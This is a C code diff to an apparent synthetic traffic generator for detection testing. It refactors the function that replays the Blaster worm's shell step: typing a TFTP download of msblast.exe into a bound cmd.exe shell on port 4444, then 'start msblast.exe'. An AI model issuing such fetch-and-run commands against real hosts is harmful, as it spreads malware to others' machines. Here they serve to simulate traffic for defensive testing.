@@ -308,6 +308,13 @@ static uint64_t tftp_get(struct gen *g, struct gen_host *c, struct gen_host *s, 
 	}
 }
 
+/* A line of shell text from one side of f at t. */
+static uint64_t say(struct gen *g, struct gen_flow *f, bool from_client, const char *text,
+		    uint64_t t)
+{
+	return gen_flow_send(g, f, from_client, (const uint8_t *)text, strlen(text), t);
+}
+
 /* Blaster's second step: the DCOM exploit left cmd.exe bound to 4444 on
  * the victim; the worm types a TFTP download of itself and starts it. */
 static uint64_t blaster_shell(struct gen *g, struct gen_flow *f, uint64_t t)
@@ -320,18 +327,15 @@ static uint64_t blaster_shell(struct gen *g, struct gen_flow *f, uint64_t t)
 				   "\r\nC:\\WINDOWS\\system32>";
 	static const char start[] = "start msblast.exe\r\n";
 	static const char prompt[] = "\r\nC:\\WINDOWS\\system32>";
-#define SEND(from_client, s, gap) gen_flow_send(g, f, from_client, (const uint8_t *)(s), \
-						sizeof(s) - 1, t + (gap))
-	t = SEND(false, banner, 2000);
-	t = SEND(true, get, 5000);
-	t = SEND(false, get, 300);                     /* cmd.exe echoes the line */
+
+	t = say(g, f, false, banner, t + 2000);
+	t = say(g, f, true, get, t + 5000);
+	t = say(g, f, false, get, t + 300);            /* cmd.exe echoes the line */
 	t = tftp_get(g, f->s, f->c, "msblast.exe", 6176, t + 20000);
-	t = SEND(false, done, 2000);
-	t = SEND(true, start, 3000);
-	t = SEND(false, start, 300);
-	t = SEND(false, prompt, 20000);
-#undef SEND
-	return t;
+	t = say(g, f, false, done, t + 2000);
+	t = say(g, f, true, start, t + 3000);
+	t = say(g, f, false, start, t + 300);
+	return say(g, f, false, prompt, t + 20000);
 }
 
 ww_rc gen_scn_exploits(struct gen *g, FILE *truth)
